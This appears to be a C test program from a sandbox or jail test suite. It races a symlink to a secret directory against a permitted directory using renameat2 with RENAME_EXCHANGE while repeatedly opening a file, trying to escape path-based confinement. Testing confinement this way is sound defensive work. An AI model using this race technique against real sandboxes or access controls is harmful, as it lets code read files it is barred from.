/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Two directories change places (RENAME_EXCHANGE) while "dir/file" is opened. */
#include "race.h"

static char here[PATH_MAX], there[PATH_MAX];

static void *swap(void *unused)
{
        while (!race_over)
                syscall(SYS_renameat2, AT_FDCWD, here, AT_FDCWD, there, 2);
        return unused;
}

int main(void)
{
        char path[PATH_MAX + 8], secret_directory[PATH_MAX];

        strcpy(secret_directory, secret_path());
        *strrchr(secret_directory, '/') = '\0';
        /* The driver made it: in the jail nobody may. */
        snprintf(here, sizeof(here), "%s/spare", setting("ATTACK_WORK"));
        snprintf(there, sizeof(there), "%s/there-%d", setting("ATTACK_WORK"), getpid());
        if (symlink(secret_directory, there) < 0)
                return 1;
        snprintf(path, sizeof(path), "%s/%s", here, strrchr(secret_path(), '/') + 1);
        close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
        start_thread(swap, NULL);
        race_open(path, ROUNDS);
        race_over = true;
        return 0;
}
